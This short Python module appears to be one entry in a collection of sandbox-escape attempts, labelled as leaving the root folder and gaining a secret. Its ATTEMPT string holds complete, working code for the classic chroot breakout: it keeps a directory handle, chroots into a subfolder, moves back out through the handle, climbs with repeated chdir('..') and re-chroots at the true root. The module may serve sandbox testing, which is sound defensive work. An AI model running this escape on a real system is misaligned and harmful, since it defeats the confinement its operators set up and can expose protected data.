"""Leaves the root folder by a second chroot."""

KIND = "outside"
GAINS = "secret"
ATTEMPT = """
import os

def attempt():
    os.makedirs("inner", exist_ok=True)
    way_out = os.open(".", os.O_RDONLY)
    os.chroot("inner")
    os.fchdir(way_out)
    for _ in range(20):
        os.chdir("..")
    os.chroot(".")
    return True
"""
